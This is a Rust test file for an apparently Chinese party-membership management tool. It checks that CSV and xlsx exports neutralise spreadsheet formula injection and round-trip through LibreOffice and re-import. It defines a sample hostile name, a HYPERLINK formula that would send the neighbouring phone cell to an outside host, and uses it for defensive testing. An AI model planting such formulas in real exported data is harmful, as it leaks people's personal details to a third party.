//! Exports opened in a spreadsheet: CSV cells that begin a formula are
//! neutralised with `'`, 18-digit ID numbers and 11-digit phones are `="…"`
//! text formulas, real negative points stay plain numbers. Checked for real
//! with LibreOffice headless (the CSV converted with its default import
//! options, the cells read back with calamine), and by our own import, of the
//! CSV and of what LibreOffice made of it. In xlsx every text is a string
//! cell, never a formula.

mod common;

use calamine::{Data, Reader, open_workbook_auto};
use common::*;
use dangjian::domain::*;
use dangjian::io::export::{self, ExportKind, ExportOptions, FileFormat};
use dangjian::io::import::{self, ImportKind, ImportOptions};
use dangjian::ops::{self, Command};
use dangjian::store::Store;
use std::collections::BTreeSet;
use std::io::Read;
use std::path::{Path, PathBuf};

/// A name that would be a live link carrying the next cell (the phone) away.
const EVIL_NAME: &str = "=HYPERLINK(\"//x.cn/\"&F2)";

/// LibreOffice's CSV import as its dialog starts: comma, double quotes, and
/// UTF-8 (which the dialog picks from the BOM; headless needs telling), every
/// other option at its default.
const LO_CSV: &str = "Text - txt - csv (StarCalc):44,34,76";

struct Community {
    f: Fixture,
    id_number: String,
}

/// 王芳 whose name begins with `=`, notes with `+` and `@`; 张三 with a
/// deduction of −2 and a note beginning with `-`; a beneficiary whose contact
/// is a mobile number.
fn community() -> Community {
    let f = Fixture::new();
    let idn = id_number("19700506", 21);
    let mut a = member_data(EVIL_NAME, f.group_a1);
    a.id_number = idn.clone();
    a.phone = "13800138000".into();
    a.notes = "+1 打过电话".into();
    a.home_unit = "@某单位".into();
    f.admin_apply(Command::CreateMember { data: a }).unwrap();
    let mut b = member_data("张三", f.group_a2);
    b.id_number = id_number("19800101", 22);
    // As the ID number says: born 1980-01-01, an even sequence is a woman.
    b.birth_date = Some(date(1980, 1, 1));
    b.gender = Some(Gender::Female);
    b.phone = "13912345678".into();
    b.notes = "-2 分：无故缺席".into();
    let zhang = MemberId(
        f.admin_apply(Command::CreateMember { data: b })
            .unwrap()
            .created
            .unwrap(),
    );
    let absent = f.rule("ABSENT");
    f.admin_apply(Command::RecordPoints {
        member: zhang,
        date: date(2025, 10, 8),
        rule: absent.id,
        quantity_centi: 100,
        points_override: None,
        note: "无故缺席支部党员大会".into(),
    })
    .unwrap();
    let mut ben = beneficiary_data("孙奶奶", f.group_a1);
    ben.contact = "13700001111".into();
    f.admin_apply(Command::CreateBeneficiary { data: ben })
        .unwrap();
    Community { f, id_number: idn }
}

fn export_to(f: &Fixture, kind: ExportKind, path: &Path) {
    let options = ExportOptions {
        kind,
        org: None,
        unmasked: true,
        zh: true,
    };
    let table = export::table(&f.store, &f.admin, &options).unwrap();
    export::write(&table, FileFormat::for_path(path), path).unwrap();
}

/// The cells of a CSV as the file holds them (BOM dropped).
fn csv_rows(path: &Path) -> Vec<Vec<String>> {
    let text = std::fs::read_to_string(path).unwrap();
    let text = text.strip_prefix('\u{feff}').unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

fn col(header: &[String], name: &str) -> usize {
    header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {header:?}"))
}

/// The first sheet of a workbook: values and formulas.
fn first_sheet(path: &Path) -> (Vec<Vec<Data>>, Vec<Vec<String>>) {
    let mut book = open_workbook_auto(path).unwrap();
    let name = book.sheet_names()[0].clone();
    let values = book.worksheet_range(&name).unwrap();
    let formulas = book.worksheet_formula(&name).unwrap();
    let (h, w) = values.get_size();
    let formula = |r: usize, c: usize| {
        formulas
            .get_value((r as u32, c as u32))
            .cloned()
            .unwrap_or_default()
    };
    let formulas = (0..h).map(|r| (0..w).map(|c| formula(r, c)).collect());
    (
        values.rows().map(<[Data]>::to_vec).collect(),
        formulas.collect(),
    )
}

fn text_of(d: &Data) -> String {
    match d {
        Data::String(s) => s.clone(),
        other => other.to_string(),
    }
}

#[test]
fn csv_cells_that_begin_a_formula_get_an_apostrophe_and_long_digits_a_text_formula() {
    let c = community();
    let dir = tempfile::tempdir().unwrap();
    let members = dir.path().join("members.csv");
    export_to(&c.f, ExportKind::Members, &members);
    let rows = csv_rows(&members);
    let h = &rows[0];
    let evil = rows
        .iter()
        .find(|r| r[col(h, "姓名")].contains("HYPERLINK"));
    let evil = evil.unwrap();
    assert_eq!(evil[col(h, "姓名")], format!("'{EVIL_NAME}"));
    assert_eq!(evil[col(h, "身份证号")], format!("=\"{}\"", c.id_number));
    assert_eq!(evil[col(h, "联系电话")], "=\"13800138000\"");
    assert_eq!(evil[col(h, "备注")], "'+1 打过电话");
    assert_eq!(evil[col(h, "工作单位")], "'@某单位");
    // Short digits are left alone: a spreadsheet reads them back the same.
    assert_eq!(evil[col(h, "楼栋")], "3");
    // No other cell begins a formula.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                    || (cell.starts_with("=\"")
                        && cell[2..cell.len() - 1].bytes().all(|b| b.is_ascii_digit())),
                "{cell:?}"
            );
        }
    }

    let ledger = dir.path().join("ledger.csv");
    export_to(&c.f, ExportKind::Ledger, &ledger);
    let rows = csv_rows(&ledger);
    let points = col(&rows[0], "积分");
    assert_eq!(rows[1][points], "-2", "a real deduction is a plain number");
}

#[test]
fn libreoffice_opens_the_csv_with_exact_digits_as_text_no_live_formula_and_numbers_as_numbers() {
    let c = community();
    let dir = tempfile::tempdir().unwrap();
    let members = dir.path().join("members.csv");
    export_to(&c.f, ExportKind::Members, &members);
    let lo = dir.path().join("lo");
    std::fs::create_dir(&lo).unwrap();
    let xlsx = soffice_convert(&lo, &members, "xlsx", Some(LO_CSV));
    let (values, formulas) = first_sheet(&xlsx);
    let header: Vec<String> = values[0].iter().map(text_of).collect();
    let (name, idn, phone) = (
        col(&header, "姓名"),
        col(&header, "身份证号"),
        col(&header, "联系电话"),
    );
    let row = values
        .iter()
        .position(|r| text_of(&r[name]).contains("HYPERLINK"))
        .unwrap();
    // The exact digits, as text (a number would be 1.10105197005060E+17).
    assert_eq!(values[row][idn], Data::String(c.id_number.clone()));
    assert_eq!(values[row][phone], Data::String("13800138000".into()));
    // The would-be link is text that computes nothing.
    assert_eq!(values[row][name], Data::String(format!("'{EVIL_NAME}")));
    assert_eq!(formulas[row][name], "");
    // The only formulas are the text ones over digits, which reference nothing.
    for (r, line) in formulas.iter().enumerate().skip(1) {
        for (c_, f) in line.iter().enumerate() {
            let literal = format!("\"{}\"", text_of(&values[r][c_]));
            assert!(f.is_empty() || *f == literal, "row {r}: formula {f:?}");
        }
    }

    let ledger = dir.path().join("ledger.csv");
    export_to(&c.f, ExportKind::Ledger, &ledger);
    let xlsx = soffice_convert(&lo, &ledger, "xlsx", Some(LO_CSV));
    let (values, _) = first_sheet(&xlsx);
    let header: Vec<String> = values[0].iter().map(text_of).collect();
    assert_eq!(values[1][col(&header, "积分")], Data::Float(-2.0));

    let benefs = dir.path().join("beneficiaries.csv");
    export_to(&c.f, ExportKind::Beneficiaries, &benefs);
    let xlsx = soffice_convert(&lo, &benefs, "xlsx", Some(LO_CSV));
    let (values, _) = first_sheet(&xlsx);
    let header: Vec<String> = values[0].iter().map(text_of).collect();
    assert_eq!(
        values[1][col(&header, "联系电话")],
        Data::String("13700001111".into())
    );
}

/// What an import must give back: every member's name, ID number, phone,
/// notes and home unit.
fn people(store: &Store) -> BTreeSet<(String, String, String, String, String)> {
    store
        .scan::<Member>()
        .map(Result::unwrap)
        .map(|m| {
            let d = m.data;
            (d.name, d.id_number, d.phone, d.notes, d.home_unit)
        })
        .collect()
}

/// Imports `path` into a new store in `dir`.
fn import_into_empty(dir: &Path, path: &Path) -> Store {
    let store = open(&dir.join(format!("from-{}", path.display()).replace('/', "_")));
    let admin = ops::actor_for_login(&store, "someone").unwrap();
    let options = ImportOptions {
        create_units: true,
        ..ImportOptions::default()
    };
    let plan = import::plan(
        &dangjian::access::AsActor(&store, &admin),
        ImportKind::Members,
        path,
        &options,
    )
    .unwrap();
    let problems: Vec<String> = plan.problems.iter().map(|p| p.line(false)).collect();
    assert!(problems.is_empty(), "{}: {problems:?}", path.display());
    import::commit(
        &dangjian::access::AsActor(&store, &admin),
        &plan,
        false,
        &mut |_, _| {},
    )
    .unwrap();
    store
}

#[test]
fn our_import_reads_back_the_exact_values_from_the_csv_and_from_libreoffices_workbook() {
    let c = community();
    let dir = tempfile::tempdir().unwrap();
    let members = dir.path().join("members.csv");
    export_to(&c.f, ExportKind::Members, &members);
    let want = people(&c.f.store);
    assert!(want.iter().any(|p| p.0 == EVIL_NAME && p.1 == c.id_number));
    assert_eq!(
        people(&import_into_empty(dir.path(), &members)),
        want,
        "from the CSV"
    );
    let lo = dir.path().join("lo");
    std::fs::create_dir(&lo).unwrap();
    let xlsx: PathBuf = soffice_convert(&lo, &members, "xlsx", Some(LO_CSV));
    assert_eq!(
        people(&import_into_empty(dir.path(), &xlsx)),
        want,
        "from the workbook LibreOffice made of the CSV"
    );
}

#[test]
fn xlsx_exports_write_every_text_as_a_string_cell_never_a_formula() {
    let c = community();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("members.xlsx");
    export_to(&c.f, ExportKind::Members, &path);
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&path).unwrap()).unwrap();
    let mut xml = String::new();
    zip.by_name("xl/worksheets/sheet1.xml")
        .unwrap()
        .read_to_string(&mut xml)
        .unwrap();
    assert!(!xml.contains("<f>") && !xml.contains("<f "), "{xml}");
    let (values, formulas) = first_sheet(&path);
    let header: Vec<String> = values[0].iter().map(text_of).collect();
    let name = col(&header, "姓名");
    let row = values
        .iter()
        .position(|r| text_of(&r[name]).contains("HYPERLINK"))
        .unwrap();
    assert_eq!(values[row][name], Data::String(EVIL_NAME.into()));
    assert_eq!(formulas[row][name], "");
    assert_eq!(
        values[row][col(&header, "身份证号")],
        Data::String(c.id_number.clone())
    );
    assert_eq!(
        people(&import_into_empty(dir.path(), &path)),
        people(&c.f.store)
    );
}

#[test]
fn the_problem_report_is_escaped_too_and_reads_back_as_the_file_was() {
    let f = Fixture::new();
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.csv");
    std::fs::write(
        &input,
        "姓名,身份证号,所属支部,所属党小组\n=1+1,123,第一党支部,1号楼党小组\n",
    )
    .unwrap();
    let options = ImportOptions::default();
    let plan = import::plan(
        &dangjian::access::AsActor(&f.store, &f.admin),
        ImportKind::Members,
        &input,
        &options,
    )
    .unwrap();
    assert_eq!(plan.bad_rows.len(), 1);
    let report = dir.path().join("problems.csv");
    import::write_report(&plan, &[], &report, true).unwrap();
    let rows = csv_rows(&report);
    assert_eq!(rows[1][2], "'=1+1", "{rows:?}");
    let again = import::plan(
        &dangjian::access::AsActor(&f.store, &f.admin),
        ImportKind::Members,
        &report,
        &options,
    )
    .unwrap();
    assert_eq!(again.bad_rows[0].1[2], "=1+1");
}
